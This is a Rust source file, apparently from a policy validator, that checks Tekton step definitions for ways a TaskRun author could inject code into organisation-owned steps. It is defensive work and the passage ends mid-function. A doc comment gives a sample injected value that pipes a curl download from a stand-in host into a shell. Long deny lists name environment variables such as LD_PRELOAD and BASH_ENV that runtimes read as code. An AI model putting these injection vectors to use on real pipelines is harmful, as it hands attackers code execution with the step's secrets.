//! An org step must not run code the TaskRun's author writes.
//!
//! Tekton substitutes variables into a step's text before the step runs, so a `$(params.url)`
//! in a `script` becomes part of the script: a TaskRun that passes `url: "x; curl evil | sh"`
//! runs its own code inside the org's step, with the org step's image, mounts and secrets.
//! Values the author controls are `$(params.…)`, `$(workspaces.<w>.path|claim|volume)` (the
//! author declares the workspace, and its `mountPath` is used verbatim), the results (and
//! artifacts) of steps that are not the policy's own, and `$(tasks.…)`. They may reach an org
//! step through `env` (`env: [{name: URL, value: "$(params.url)"}]`, then `"$URL"` in the
//! script), where they stay data.
//!
//! Checked: `script`; every element of `command` and `args` (whether a program takes an argument
//! as data or as code — a shell's `-c`, an interpreter's inline code, a script file, an
//! args-only step whose image runs a shell, a wrapper bookend does not know — cannot be told from
//! outside, so an allow-list: none carries an author value), including the author values
//! Kubernetes expands into them from `env` (`$(NAME)`); `image`, `workingDir`, `when` and
//! `onError`, which choose what runs, where, whether, and whether its failure counts; the `env`
//! variables runtimes read as code or as where code is found (`BASH_ENV`, `LD_PRELOAD`, `PATH`,
//! `NODE_OPTIONS`, …), which may not carry author values; and `envFrom`, which lets the
//! namespace's object choose variable names. Author values stay data in other `env` values.

use std::collections::BTreeSet;

use super::path::{Errors, FieldPath};
use super::syntax::references;
use crate::policy::api::Step;

/// Programs taken for a shell (by the last part of their path).
pub const SHELLS: &[&str] = &["sh", "bash", "ash", "dash", "zsh", "ksh"];

/// The author-controlled variables in `step`'s shell strings, image, program and workingDir.
/// `own_steps` are the policy's step names, whose results the policy itself writes.
pub(super) fn check(step: &Step, at: &FieldPath, own_steps: &BTreeSet<&str>, errs: &mut Errors) {
    // In code, a result of the policy's own step is text too: written at run time from what
    // that step read (a param it was given through env, a file of the workspace), pasted in by
    // Tekton's entrypoint. Elsewhere (conditions, env) it is the policy's value.
    let in_code = BTreeSet::new();
    if let Some(script) = &step.script {
        report(Place::Script, &at.field("script"), script, &in_code, errs);
    }
    let command = step.command.as_deref().unwrap_or_default();
    let args = step.args.as_deref().unwrap_or_default();
    let argv: Vec<&str> = command.iter().chain(args).map(String::as_str).collect();
    let path_of = |i: usize| {
        if i < command.len() {
            at.field_index("command", i)
        } else {
            at.field_index("args", i - command.len())
        }
    };
    // Where bookend can tell what an argument is, the message says so; the rule is the same for
    // every argument. (Without `command`, the image's entrypoint runs `args`; read as a command
    // line, which is what an image whose CMD is a shell makes of them.)
    let places = code_positions(&argv);
    let author_env = author_valued_env(step, own_steps);
    for (i, text) in argv.iter().enumerate() {
        let place = places
            .iter()
            .find(|(j, _)| *j == i)
            .map_or(Place::Argument, |(_, p)| *p);
        report(place, &path_of(i), text, &in_code, errs);
        if let Some((name, why)) = expansions(text)
            .into_iter()
            .find_map(|n| author_env.iter().find(|(e, _)| *e == n).copied())
        {
            errs.add(
                &path_of(i),
                format!(
                    "Kubernetes expands $({name}) here, and env {name} {why}, so the argument is theirs and bookend cannot know whether the program takes it as code; read {name} from the environment in the program or the script (\"${name}\") instead of expanding it into the command line"
                ),
            );
        }
    }
    check_env(step, at, &author_env, errs);
    for (i, mount) in step.volume_mounts.iter().flatten().enumerate() {
        if let Some(expr) = &mount.sub_path_expr
            && let Some((name, why)) = expansions(expr)
                .into_iter()
                .find_map(|n| author_env.iter().find(|(e, _)| *e == n).copied())
        {
            errs.add(
                &at.field_index("volumeMounts", i).field("subPathExpr"),
                format!(
                    "Kubernetes expands $({name}) here, and env {name} {why}, so the author would choose which part of the volume this org step mounts; write subPath literally"
                ),
            );
        }
    }
    // Every other field Tekton substitutes into (mount paths and subPaths, the output files,
    // imagePullPolicy, securityContext, resources, timeout, env sources, …): no author value.
    // `env[].value` is data (checked above for names that are code); `ref` and `params` are
    // the StepAction's (checked where StepActions are).
    if let Ok(serde_json::Value::Object(fields)) = serde_json::to_value(step) {
        for (key, value) in &fields {
            if matches!(
                key.as_str(),
                "name"
                    | "script"
                    | "command"
                    | "args"
                    | "when"
                    | "onError"
                    | "image"
                    | "workingDir"
                    | "ref"
                    | "params"
            ) {
                continue;
            }
            let mut leaves = Vec::new();
            string_leaves(value, at.field(key), &mut leaves);
            for (path, text) in leaves {
                if key == "env" && path.as_str().ends_with(".value") {
                    continue;
                }
                report(Place::Field, &path, text, own_steps, errs);
            }
        }
    }
    for (i, when) in step.when.iter().flatten().enumerate() {
        let text = serde_json::to_string(when).unwrap_or_default();
        report(
            Place::When,
            &at.field_index("when", i),
            &text,
            own_steps,
            errs,
        );
    }
    if let Some(on_error) = &step.on_error {
        report(
            Place::OnError,
            &at.field("onError"),
            on_error,
            own_steps,
            errs,
        );
    }
    if let Some(image) = &step.image {
        report(Place::Image, &at.field("image"), image, own_steps, errs);
    }
    if let Some(dir) = &step.working_dir {
        report(
            Place::WorkingDir,
            &at.field("workingDir"),
            dir,
            own_steps,
            errs,
        );
    }
}

/// The string values under `value`, with their paths.
fn string_leaves<'v>(
    value: &'v serde_json::Value,
    at: FieldPath,
    out: &mut Vec<(FieldPath, &'v str)>,
) {
    match value {
        serde_json::Value::String(s) => out.push((at, s)),
        serde_json::Value::Array(items) => {
            for (i, item) in items.iter().enumerate() {
                string_leaves(item, at.index(i), out);
            }
        }
        serde_json::Value::Object(fields) => {
            for (k, v) in fields {
                string_leaves(v, at.field(k), out);
            }
        }
        _ => {}
    }
}

/// The policy's volumes: Tekton substitutes params into a Task's volumes (a ConfigMap's or
/// Secret's name, a claim), so an author value would choose what the org steps mount.
pub(super) fn check_volumes(
    volumes: &[k8s_openapi::api::core::v1::Volume],
    at: &FieldPath,
    errs: &mut Errors,
) {
    for (i, volume) in volumes.iter().enumerate() {
        if let Ok(value) = serde_json::to_value(volume) {
            let mut leaves = Vec::new();
            string_leaves(&value, at.index(i), &mut leaves);
            for (path, text) in leaves {
                report(Place::Field, &path, text, &BTreeSet::new(), errs);
            }
        }
    }
}

/// Environment variables that runtimes read as code, or as where code is found: a value the
/// TaskRun's author (or the namespace) chooses would choose the code of the org step.
const CODE_ENV: &[&str] = &[
    "BASH_ENV",
    "ENV",
    "SHELLOPTS",
    "BASHOPTS",
    "PROMPT_COMMAND",
    "PS4",
    "IFS",
    "PATH",
    "HOME",
    "XDG_CONFIG_HOME",
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "LD_AUDIT",
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "PYTHONHOME",
    "PYTHONUSERBASE",
    "NODE_OPTIONS",
    "NODE_PATH",
    "PERL5OPT",
    "PERL5LIB",
    "PERLLIB",
    "RUBYOPT",
    "RUBYLIB",
    "GEM_PATH",
    "JAVA_TOOL_OPTIONS",
    "_JAVA_OPTIONS",
    "JDK_JAVA_OPTIONS",
    "CLASSPATH",
    "GIT_SSH",
    "GIT_SSH_COMMAND",
    "GIT_EXEC_PATH",
    "GIT_ASKPASS",
    "GIT_EDITOR",
    "GIT_PAGER",
    "GIT_EXTERNAL_DIFF",
    "GIT_TEMPLATE_DIR",
    "SSH_ASKPASS",
    "EDITOR",
    "VISUAL",
    "PAGER",
    "LESSOPEN",
    "LESSCLOSE",
    "GIT_PROXY_COMMAND",
    "GIT_SEQUENCE_EDITOR",
    "GIT_DIR",
    "GIT_WORK_TREE",
    "GIT_COMMON_DIR",
    "ZDOTDIR",
    "INPUTRC",
    "LUA_INIT",
    "LUA_PATH",
    "LUA_CPATH",
    "GCONV_PATH",
    "KUBECONFIG",
    "DOCKER_CONFIG",
    "DOCKER_HOST",
    "OPENSSL_CONF",
    "OPENSSL_MODULES",
    "OPENSSL_ENGINES",
    "SSL_CERT_FILE",
    "SSL_CERT_DIR",
    "CURL_HOME",
    "WGETRC",
    "NETRC",
    "GNUPGHOME",
    "MAVEN_OPTS",
    "JAVA_OPTS",
    "GRADLE_OPTS",
    "GRADLE_USER_HOME",
    "DOTNET_STARTUP_HOOKS",
    "COMPlus_EnableDiagnostics",
    "GOFLAGS",
    "GOPROXY",
    "GOPATH",
    "GOROOT",
    "CGO_CFLAGS",
    "CGO_LDFLAGS",
    "CC",
    "CXX",
    "LD",
    "MAKEFLAGS",
    "MFLAGS",
    "NPM_CONFIG_PREFIX",
    "NPM_CONFIG_USERCONFIG",
    "PIP_INDEX_URL",
    "PIP_CONFIG_FILE",
    "PYTHONWARNINGS",
    "PYTHONINSPECT",
    "HELM_PLUGINS",
    "TERMINFO",
];

/// Whether the runtimes read the variable `name` as code (or as where code, configuration or
/// trust is found). A list cannot be complete (any program may read any variable as code), so
/// besides the names above, the shapes that usually are: options and flags for a runtime
/// (`*_OPTS`, `*_OPTIONS`, `*FLAGS`), commands and hooks (`*_COMMAND`, `*_CMD`, `*HOOK*`),
/// configuration files and homes (`*CONF*`, `*_RC`, `*_HOME`), search paths of code (`*_PATH`
/// of a runtime, `*LIB*`), preloads and init (`*PRELOAD*`, `*_INIT`, `*STARTUP*`), bash's
/// exported functions (`BASH_FUNC_*`), and everything `LD_`, `GIT_CONFIG`, `NPM_CONFIG_`,
/// `PIP_`, `CARGO_`, `RUSTC`, `RUSTFLAGS`, `PYTHON` or `NODE_` starts with. Author values stay
/// data in other names (`SBOM_URL`, `GIT_URL`, `REVISION`).
fn is_code_env(name: &str) -> bool {
    let upper = name.to_ascii_uppercase();
    let n = upper.as_str();
    CODE_ENV.iter().any(|c| c.eq_ignore_ascii_case(name))
        || [
            "LD_",
            "GIT_CONFIG",
            "NPM_CONFIG_",
            "PIP_",
            "CARGO_",
            "RUSTC",
            "RUSTFLAGS",
            "RUSTDOCFLAGS",
            "PYTHON",
            "NODE_",
            "BASH_FUNC_",
            "PERL",
            "RUBY",
            "JAVA",
            "JDK_",
            "_JAVA",
            "DOTNET_",
            "COMPLUS_",
            "CORECLR_",
        ]
        .iter()
        .any(|p| n.starts_with(p))
        || [
            "_OPTS", "_OPTIONS", "FLAGS", "_COMMAND", "_CMD", "_RC", "_HOME", "_INIT",
        ]
        .iter()
        .any(|suffix| n.ends_with(suffix))
        || [
            "HOOK", "CONF", "PRELOAD", "STARTUP", "LIBPATH", "_LIB", "LIB_", "PLUGIN",
        ]
        .iter()
        .any(|part| n.contains(part))
        || n.contains('%')
        || (n.ends_with("_PATH")
            && [
                "LUA", "GEM", "GO", "NODE", "PYTHON", "PERL", "RUBY", "CLASS", "MODULE", "PLUGIN",
                "LIBRARY", "GCONV", "MANPATH", "HELM", "KREW", "XDG",
            ]
            .iter()
            .any(|runtime| n.starts_with(runtime)))
}

/// The step's env variables whose values the TaskRun's author (or the namespace) chooses, with
/// why: an author variable in the value, a value from the namespace's ConfigMap or Secret, the
/// Pod's labels or annotations (Tekton copies the TaskRun's), or an earlier such variable
/// Kubernetes expands into it.
fn author_valued_env<'s>(
    step: &'s Step,
    own_steps: &BTreeSet<&str>,
) -> Vec<(&'s str, &'static str)> {
    let mut found: Vec<(&str, &'static str)> = Vec::new();
    for var in step.env.iter().flatten() {
        let why = if let Some(value) = &var.value {
            if references(value).any(|r| author_controlled(r, own_steps)) {
                Some("holds a value the TaskRun's author chooses")
            } else if expansions(value)
                .iter()
                .any(|n| found.iter().any(|(e, _)| e == n))
            {
                Some("expands a variable whose value the TaskRun's author chooses")
            } else {
                None
            }
        } else if let Some(from) = &var.value_from {
            if from.config_map_key_ref.is_some() || from.secret_key_ref.is_some() {
                Some("is read from an object in the TaskRun's namespace, which its users can write")
            } else if from.field_ref.as_ref().is_some_and(|f| {
                f.field_path.starts_with("metadata.labels")
                    || f.field_path.starts_with("metadata.annotations")
            }) {
                Some(
                    "is read from the Pod's labels or annotations, which Tekton copies from the TaskRun",
                )
            } else {
                None
            }
        } else {
            None
        };
        if let Some(why) = why {
            found.push((var.name.as_str(), why));
        }
    }
    found
}

/// The names Kubernetes expands in a command, an argument, an env value or a `subPathExpr`:
/// read as the kubelet reads them (`third_party/forked/golang/expansion`): `$$` is one literal
/// `$` (so `$$$(NAME)` is `$` and an expansion), `$(NAME)` expands whatever NAME is (any
/// characters up to `)`: env names may hold `:` or `/` since Kubernetes 1.32).
fn expansions(text: &str) -> Vec<&str> {
    let bytes = text.as_bytes();
    let mut names = Vec::new();
    let mut i = 0;
    while i + 1 < bytes.len() {
        if bytes[i] != b'$' {
            i += 1;
            continue;
        }
        match bytes[i + 1] {
            b'$' => i += 2,
            b'(' => match text[i + 2..].find(')') {
                Some(end) => {
                    let name = &text[i + 2..i + 2 + end];
                    if !name.is_empty() {
                        names.push(name);
                    }
                    i += 2 + end + 1;
                }
                None => break,
            },
            _ => i += 1,
        }
    }
    names
}

/// Env variables runtimes read as code carry no author value; `envFrom` names no variables.
fn check_env(step: &Step, at: &FieldPath, author_env: &[(&str, &'static str)], errs: &mut Errors) {
    for (i, var) in step.env.iter().flatten().enumerate() {
        if !is_code_env(&var.name) {
            continue;
        }
        if let Some((_, why)) = author_env.iter().find(|(n, _)| *n == var.name) {
            errs.add(
                &at.field_index("env", i),
                format!(
                    "{} {why}, and runtimes read {} as code (or as where code is found: a shell's startup file, preloaded libraries, the program search path, interpreter options), so the author would choose the code this org step runs; set it literally",
                    var.name, var.name
                ),
            );
        }
    }
    for (i, _) in step.env_from.iter().flatten().enumerate() {
        errs.add(
            &at.field_index("envFrom", i),
            "envFrom lets the object in the TaskRun's namespace choose the variables' names, among them ones runtimes read as code (BASH_ENV, LD_PRELOAD, PATH, NODE_OPTIONS); name each variable with env[].valueFrom instead",
        );
    }
}

/// Directories every step mounts writable (Tekton's implicit emptyDirs, `pkg/pod/pod.go`
/// `implicitVolumeMounts`): the author's steps, which run between the org's pre- and
/// post-steps, write them.
const SHARED_DIRS: &[(&str, &str)] = &[
    ("/workspace", "tekton-internal-workspace"),
    ("/tekton/home", "tekton-internal-home"),
    ("/tekton/results", "tekton-internal-results"),
    ("/tekton/artifacts", "tekton-internal-artifacts"),
];

/// An org step must not run code from a place the TaskRun's author (or another user of its
/// namespace) can write: a policy volume whose content Kubernetes takes from the namespace
/// (a ConfigMap, a Secret, a PersistentVolumeClaim, a projection of them or of the Pod's
/// metadata, a downwardAPI volume, an ephemeral volume filled from a data source), a workspace
/// (the TaskRun binds it), or the directories every step mounts writable (`/workspace`,
/// `/tekton/home`, …). Refused for such a path: the program, the script file a shell or
/// interpreter runs, a program or sourced file of a script or `-c` script, a code env variable
/// naming it, and (for volumes and workspaces) a mount at a system directory or the working
/// directory of the namespace's volumes.
pub(super) fn check_code_from_namespace(
    step: &Step,
    volumes: &[k8s_openapi::api::core::v1::Volume],
    at: &FieldPath,
    errs: &mut Errors,
) {
    let source = |v: &k8s_openapi::api::core::v1::Volume| -> Option<&'static str> {
        if v.config_map.is_some() {
            Some("a ConfigMap")
        } else if v.secret.is_some() {
            Some("a Secret")
        } else if v.persistent_volume_claim.is_some() {
            Some("a PersistentVolumeClaim")
        } else if v.projected.as_ref().is_some_and(|p| {
            p.sources
                .iter()
                .flatten()
                .any(|s| s.config_map.is_some() || s.secret.is_some() || s.downward_api.is_some())
        }) {
            Some("a projection of ConfigMaps, Secrets or the Pod's metadata")
        } else if v.downward_api.is_some() {
            // The Pod's labels and annotations are the TaskRun's (Tekton copies them).
            Some("the Pod's metadata (its labels and annotations are the TaskRun's)")
        } else if v.ephemeral.as_ref().is_some_and(|e| {
            e.volume_claim_template
                .as_ref()
                .is_some_and(|t| t.spec.data_source.is_some() || t.spec.data_source_ref.is_some())
        }) {
            Some("a claim filled from a data source")
        } else {
            None
        }
    };
    // (path, what it is, whether it is a mount of the step's own: a volume or a workspace)
    let mut writable: Vec<(String, String, bool)> = SHARED_DIRS
        .iter()
        .map(|(path, volume)| {
            (
                (*path).to_owned(),
                format!(
                    "Tekton's {path} ({volume}), which every step mounts writable, the TaskRun's own steps included"
                ),
                false,
            )
        })
        .collect();
    let mut namespace_mounts: Vec<String> = Vec::new();
    for m in step.volume_mounts.iter().flatten() {
        if let Some(what) = volumes.iter().find(|v| v.name == m.name).and_then(&source) {
            namespace_mounts.push(m.mount_path.clone());
            writable.push((
                m.mount_path.clone(),
                format!(
                    "volume {:?}, {what}, whose content the TaskRun's author (or another user of its namespace) can write",
                    m.name
                ),
                true,
            ));
        }
    }
    for w in step.workspaces.iter().flatten() {
        if let Some(path) = w.mount_path.as_deref().filter(|p| !p.is_empty()) {
            writable.push((
                path.to_owned(),
                format!(
                    "workspace {:?}, which the TaskRun binds (to its own ConfigMap, claim or emptyDir)",
                    w.name
                ),
                true,
            ));
        }
    }
    let command = step.command.as_deref().unwrap_or_default();
    let args = step.args.as_deref().unwrap_or_default();
    let argv: Vec<&str> = command.iter().chain(args).map(String::as_str).collect();
    let working_dir = step.working_dir.as_deref().unwrap_or("");
    // A word as a path: `~` and `$HOME` are Tekton's /tekton/home; a relative path with a
    // slash is the working directory's.
    let resolve = |word: &str| -> String {
        let word = word.trim_matches(['"', '\'']);
        for home in ["~/", "$HOME/", "${HOME}/"] {
            if let Some(rest) = word.strip_prefix(home) {
                return format!("/tekton/home/{rest}");
            }
        }
        if !word.starts_with('/') && word.contains('/') && !working_dir.is_empty() {
            let rest = word.strip_prefix("./").unwrap_or(word);
            return format!("{}/{rest}", working_dir.trim_end_matches('/'));
        }
        word.to_owned()
    };
    let under = |path: &str| {
        let path = clean(&resolve(path));
        writable.iter().find(|(root, _, _)| {
            let root = clean(root);
            path == root || path.starts_with(&format!("{root}/"))
        })
    };
    let path_of = |i: usize| {
        if i < command.len() {
            at.field_index("command", i)
        } else {
            at.field_index("args", i - command.len())
        }
    };
    let mut places: Vec<(FieldPath, String)> = Vec::new();
    for (i, place) in code_positions(&argv) {
        match place {
            Place::Program | Place::ScriptFile => places.push((path_of(i), argv[i].to_owned())),
            // The programs and sourced files of a `-c` script.
            Place::ShellArg => places.extend(
                shell_programs(argv[i])
                    .into_iter()
                    .map(|word| (path_of(i), word.to_owned())),
            ),
            _ => {}
        }
    }
    if let Some(script) = &step.script
        && !script.starts_with("#!")
    {
        places.extend(
            shell_programs(script)
                .into_iter()
                .map(|word| (at.field("script"), word.to_owned())),
        );
    }
    // The working directory's programs: for a namespace volume (the shared directories are
    // where steps work; their programs are caught by name above).
    if !working_dir.is_empty()
        && namespace_mounts.iter().any(|m| {
            let m = clean(m);
            let dir = clean(working_dir);
            dir == m || dir.starts_with(&format!("{m}/"))
        })
    {
        places.push((at.field("workingDir"), working_dir.to_owned()));
    }
    // A variable read as code (or as where code is found) that names a place in one:
    // `PATH=/cm:$PATH`, `BASH_ENV=/cm/env.sh`, `LD_PRELOAD=/cm/x.so`.
    for (i, var) in step.env.iter().flatten().enumerate() {
        if is_code_env(&var.name)
            && let Some(value) = &var.value
            && let Some(path) = value
                .split([':', ';', ' ', '=', ','])
                .find(|part| under(part).is_some())
        {
            places.push((at.field_index("env", i), path.to_owned()));
        }
    }
    for (path, text) in places {
        if let Some((_, what, _)) = under(&text) {
            errs.add(
                &path,
                format!(
                    "{text:?} is in {what}, so the author would write the code this org step runs; ship the code in the image (or a volume the platform controls, such as an image volume or a CSI driver), and keep such places for data"
                ),
            );
        }
    }
    // Mounted where programs and libraries are looked for, a volume's or workspace's files are
    // run by name.
    let system = |path: &str| {
        let path = clean(path);
        path.is_empty()
            || path == "/"
            || [
                "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/usr", "/etc", "/opt",
            ]
            .iter()
            .any(|dir| path == *dir || path.starts_with(&format!("{dir}/")))
    };
    for (i, mount) in step.volume_mounts.iter().flatten().enumerate() {
        if system(&mount.mount_path) && namespace_mounts.contains(&mount.mount_path) {
            errs.add(
                &at.field_index("volumeMounts", i).field("mountPath"),
                format!(
                    "{:?} is a system directory, where programs and libraries are found by name, and volume {:?} is one the TaskRun's author (or another user of its namespace) can write, so the author would write the code this org step runs; mount it elsewhere and read it as data",
                    mount.mount_path, mount.name
                ),
            );
        }
    }
    for (i, w) in step.workspaces.iter().flatten().enumerate() {
        if let Some(path) = w.mount_path.as_deref().filter(|p| system(p)) {
            errs.add(
                &at.field_index("workspaces", i).field("mountPath"),
                format!(
                    "{path:?} is a system directory, where programs and libraries are found by name, and workspace {:?} is the TaskRun's to bind, so the author would write the code this org step runs; mount it under /workspace/",
                    w.name
                ),
            );
        }
    }
}

/// `path` as the kernel resolves it without links: no trailing slash, `.` or repeated slashes,
/// `..` taking the segment before it.
fn clean(path: &str) -> String {
    let mut parts: Vec<&str> = Vec::new();
    for part in path.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            p => parts.push(p),
        }
    }
    if path.starts_with('/') {
        format!("/{}", parts.join("/"))
    } else {
        parts.join("/")
    }
}

/// The words of shell code that name code: each simple command's program (past assignments,
/// keywords and `exec`/`command`/`env`-like prefixes) and the file `.`/`source` or a shell or
/// interpreter runs. A reading, not a parser: enough for the forms a policy writes.
fn shell_programs(code: &str) -> Vec<&str> {
    const KEYWORDS: &[&str] = &[
        "then", "do", "else", "elif", "if", "while", "until", "!", "{", "exec", "command", "nohup",
        "time", "env", "sudo", "eval", "xargs",
    ];
    let mut words = Vec::new();
    for command in code.split(['\n', ';', '&', '|', '(', ')', '`']) {
        let mut tokens = command
            .split_whitespace()
            .map(|t| t.trim_matches(['"', '\'']))
            .skip_while(|t| {
                KEYWORDS.contains(t)
                    || (t.contains('=') && !t.starts_with('-') && !t.starts_with('/'))
            });
        let Some(program) = tokens.next() else {
            continue;
        };
        let name = program.rsplit('/').next().unwrap_or(program);
        let runs_a_file = matches!(name, "." | "source")
            || SHELLS.contains(&name)
            || INTERPRETERS.iter().any(|(p, _)| *p == name);
        words.push(program);
        if runs_a_file && let Some(file) = tokens.find(|t| !t.starts_with('-')) {
            words.push(file);
        }
    }
    words
}

/// Where a variable was found, which decides the message.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Place {
    Script,
    ShellArg,
    /// Inline code of an interpreter (`python -c`, `node -e`, …).
    InlineCode,
    /// The script file a shell or interpreter runs.
    ScriptFile,
    Program,
    /// Any other argument: the program's to interpret.
    Argument,
    /// Any other field Tekton substitutes into.
    Field,
    Image,
    WorkingDir,
    When,
    OnError,
}

fn report(place: Place, at: &FieldPath, text: &str, own_steps: &BTreeSet<&str>, errs: &mut Errors) {
    let mut found: Vec<&str> = Vec::new();
    for r in references(text) {
        if author_controlled(r, own_steps) && !found.contains(&r) {
            found.push(r);
        }
    }
    let Some(first) = found.first() else {
        return;
    };
    let list = found
        .iter()
        .map(|r| format!("$({r})"))
        .collect::<Vec<_>>()
        .join(", ");
    let env = env_name(first);
    let via_env = format!("env: [{{name: {env}, value: \"$({first})\"}}]");
    let message = match place {
        Place::Script | Place::ShellArg => format!(
            "{} uses {list}, which the TaskRun's author controls: Tekton pastes the value into the script before the shell runs, so the author could run their own code in this org step; pass it through env instead: {via_env}, and \"${env}\" (in double quotes) in the script",
            if matches!(place, Place::Script) {
                "script"
            } else {
                "the shell's -c script"
            }
        ),
        Place::InlineCode => format!(
            "the interpreter's inline code uses {list}, which the TaskRun's author controls: Tekton pastes the value into the code before it runs, so the author could run their own code in this org step; pass it through env instead: {via_env}, and read it from the environment in the code"
        ),
        Place::ScriptFile => format!(
            "the script this step runs is named by {list}, which the TaskRun's author controls, so the author would choose the code this org step runs; name a script of the image or of a policy volume literally"
        ),
        Place::Program => format!(
            "the program uses {list}, which the TaskRun's author controls, so the author would choose the program this org step runs; write the program literally, and pass values it needs through env ({via_env})"
        ),
        Place::Argument => format!(
            "the argument uses {list}, which the TaskRun's author controls: Tekton pastes the value in before the step runs, and whether the program takes the argument as data or as code (a shell's script, an interpreter's code, the file it runs) cannot be told from outside, so no argument of an org step carries the author's values; pass it through env instead: {via_env}, and read it from the environment in the program or a script (\"${env}\")"
        ),
        Place::Field => format!(
            "{list}: the TaskRun's author controls it, and Tekton substitutes it into this field of the org step (or the volume it mounts) before the step runs, so the author would choose this part of it; write the field literally"
        ),
        Place::When => format!(
            "when uses {list}, which the TaskRun's author controls, so the author would decide whether this org step runs; org steps run unconditionally (or on conditions of the policy's own steps' results)"
        ),
        Place::OnError => format!(
            "onError uses {list}, which the TaskRun's author controls, so the author would decide whether this org step's failure counts; write onError literally"
        ),
        Place::Image => format!(
            "image uses {list}, which the TaskRun's author controls, so the author would choose the image this org step runs; write the image literally"
        ),
        Place::WorkingDir => format!(
            "workingDir uses {list}, which the TaskRun's author controls, so the author would choose the directory this org step runs in; write workingDir literally, and pass values the step needs through env ({via_env})"
        ),
    };
    // A result of the policy's own step is refused in code only (see `check`): say why.
    let message = if found.iter().any(|r| r.starts_with("steps.")) {
        format!(
            "{message} (a step's result is text written at run time, by the policy's own steps too, from what they read; Tekton's entrypoint pastes it in as it does a param)"
        )
    } else {
        message
    };
    errs.add(at, message);
}

/// Whether the variable `r` (the text inside `$(…)`) holds a value the TaskRun's author
/// chooses. Not: `context.*`, `results.*`, `step.*`, `credentials.path`, a step's
/// `exitCode.path`, the policy's own steps' results, and a shell's own `$(command)`.
fn author_controlled(r: &str, own_steps: &BTreeSet<&str>) -> bool {
    // Tekton still substitutes v1beta1's `inputs.params.x` (`ApplyReplacements`).
    let r = r.strip_prefix("inputs.").unwrap_or(r);
    if let Some(rest) = r.strip_prefix("params") {
        return rest.starts_with('.') || rest.starts_with('[');
    }
    if let Some(rest) = r.strip_prefix("workspaces.") {
        return rest
            .split_once('.')
            .is_some_and(|(_, field)| matches!(field, "path" | "claim" | "volume"));
    }
    if let Some(rest) = r.strip_prefix("steps.") {
        return rest
            .split_once('.')
            .is_some_and(|(step, tail)| tail != "exitCode.path" && !own_steps.contains(step));
    }
    r.starts_with("tasks.")
}

/// A name for the env var the message suggests: `params.git-url` → `GIT_URL`,
/// `workspaces.src.path` → `SRC_PATH`, `steps.build.results.digest` → `BUILD_DIGEST`.
fn env_name(r: &str) -> String {
    let body = ["params", "workspaces.", "steps.", "tasks."]
        .iter()
        .find_map(|p| r.strip_prefix(p))
        .unwrap_or(r)
        .replace(".results.", ".")
        .replace("[*]", "");
    let mut name = String::new();
    for c in body.chars() {
        if c.is_ascii_alphanumeric() {
            name.push(c.to_ascii_uppercase());
        } else if !name.is_empty() && !name.ends_with('_') {
            name.push('_');
        }
    }
    let name = name.trim_end_matches('_');
    match name.chars().next() {
        None => "VALUE".to_owned(),
        Some(c) if c.is_ascii_digit() => format!("V_{name}"),
        Some(_) => name.to_owned(),
    }
}

/// Programs that run the program named after them (with their own options first).
const WRAPPERS: &[&str] = &[
    "env",
    "busybox",
    "timeout",
    "nice",
    "nohup",
    "exec",
    "stdbuf",
    "ionice",
    "setsid",
    "time",
    "chrt",
    "taskset",
    "sudo",
    "doas",
    "unbuffer",
    "tini",
    "dumb-init",
    "catatonit",
];

/// Interpreters and the option that takes inline code.
const INTERPRETERS: &[(&str, &[&str])] = &[
    ("python", &["-c"]),
    ("python2", &["-c"]),
    ("python3", &["-c"]),
    ("node", &["-e", "--eval", "-p", "--print"]),
    ("nodejs", &["-e", "--eval", "-p", "--print"]),
    ("deno", &["eval"]),
    ("perl", &["-e", "-E"]),
    ("ruby", &["-e"]),
    ("php", &["-r"]),
    ("lua", &["-e"]),
    ("pwsh", &["-c", "-Command", "-command"]),
    ("powershell", &["-c", "-Command", "-command"]),
    ("tclsh", &[]),
    ("awk", &[]),
    ("gawk", &[]),
    ("mawk", &[]),
];

/// Where in `argv` (`command` then `args`; for a step without `command`, its `args` as the
/// image's entrypoint may run them, `args[0]` read as the program) code is chosen: the program
/// (after any wrappers), the inline code of a shell (`-c`) or interpreter, and the script file a
/// shell or interpreter runs.
fn code_positions(argv: &[&str]) -> Vec<(usize, Place)> {
    let base = |s: &str| {
        let name = s.rsplit('/').next().unwrap_or(s);
        // python3.12 → python3
        name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.')
            .to_owned()
            + if name.starts_with("python3") { "3" } else { "" }
    };
    let mut out = Vec::new();
    let mut i = 0;
    // Wrappers: each is a program too, then the program it runs.
    loop {
        let Some(program) = argv.get(i) else {
            return out;
        };
        out.push((i, Place::Program));
        let name = base(program);
        if !WRAPPERS.contains(&name.as_str()) {
            break;
        }
        i += 1;
        // Skip the wrapper's options and, for timeout/nice/… their operands before the program.
        while let Some(a) = argv.get(i) {
            match *a {
                "--" => {
                    i += 1;
                    break;
                }
                "-u" | "--unset" | "-C" | "--chdir" | "-n" | "-s" | "-k" | "--signal"
                | "--kill-after" | "-c" | "-p" | "-i" | "-o" | "-e" => i += 2,
                a if a.starts_with('-') || a.contains('=') => i += 1,
                // timeout's DURATION.
                a if name == "timeout" && a.chars().next().is_some_and(|c| c.is_ascii_digit()) => {
                    i += 1
                }
                _ => break,
            }
        }
    }
    let program = base(argv[i]);
    let shell = SHELLS.contains(&program.as_str());
    let interpreter = INTERPRETERS.iter().find(|(p, _)| *p == program);
    if !shell && interpreter.is_none() {
        return out;
    }
    i += 1;
    let inline_flags: &[&str] = interpreter.map_or(&[], |(_, f)| *f);
    let awk_like = matches!(program.as_str(), "awk" | "gawk" | "mawk" | "tclsh");
    let mut inline = false;
    while let Some(a) = argv.get(i) {
        match *a {
            "--" => {
                i += 1;
                break;
            }
            a if inline_flags.contains(&a) => {
                inline = true;
                i += 1;
                break;
            }
            // Options that take the next argument.
            "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file" | "-f" | "-v" | "-F" | "-m"
            | "-W" | "-I" | "-r" | "--require" => {
                if awk_like && *a == "-f" {
                    // awk -f FILE: the script file.
                    if argv.get(i + 1).is_some() {
                        out.push((i + 1, Place::ScriptFile));
                    }
                    return out;
                }
                i += 2
            }
            a if a.starts_with("--") => i += 1,
            a if a.len() > 1 && (a.starts_with('-') || a.starts_with('+')) => {
                let flags = &a[1..];
                if shell && a.starts_with('-') && flags.contains('c') {
                    inline = true;
                }
                // `-eo pipefail`: a cluster ending in o/O takes the next argument too.
                i += if shell && flags.ends_with(['o', 'O']) {
